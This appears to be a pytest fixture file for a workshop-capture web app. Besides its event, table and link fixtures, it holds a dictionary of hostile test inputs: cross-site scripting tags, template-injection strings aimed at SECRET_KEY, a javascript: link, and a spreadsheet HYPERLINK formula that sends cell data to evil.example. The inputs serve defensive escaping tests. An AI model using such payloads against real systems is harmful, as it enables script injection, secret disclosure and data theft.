"""A workshop with two tables on the day, and a phone at the first of them."""

from datetime import timedelta

import pytest
import time_machine

from dissemination.capture.links import PURPOSE, sheet_of
from dissemination.core.tokens import link_token
from tests.factories import DAY, make_event, make_workshop

NOON = DAY + timedelta(hours=2, minutes=30)  # the workshop has run for half an hour

# Facts from the list of inputs that have broken systems of this kind.
HOSTILE = {
    "script": "<script>alert(document.domain)</script>",
    "attribute": "</script><img src=x onerror=alert(1)>",
    "placeholder": "{{ settings.SECRET_KEY }}{% debug %}{email}",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"ok")',
    "quotes": 'O"Brien; Ann, \\ back',
    "markup": "Anna <b> & Co < 3",
    "link": "[x](javascript:alert(1)) ![t](https://tracker.example/p.gif)",
    "address": "evil.example/login",
}


@pytest.fixture
def event(db):
    return make_event(slug="sharing", state="closed")


@pytest.fixture
def workshop(event):
    return make_workshop(event, groups=2, questions=2, title="What would success look like?")


@pytest.fixture
def group(workshop):
    return workshop.groups.first()


@pytest.fixture
def question(workshop):
    return workshop.questions.first()


@pytest.fixture
def sheet(group):
    return sheet_of(group)


@pytest.fixture
def on_the_day():
    with time_machine.travel(NOON, tick=False):
        yield


@pytest.fixture
def phone(client, sheet, on_the_day):
    """A browser that has opened the first table's link."""
    client.get(f"/tables/{link_token(PURPOSE, sheet.code)}/")
    return client
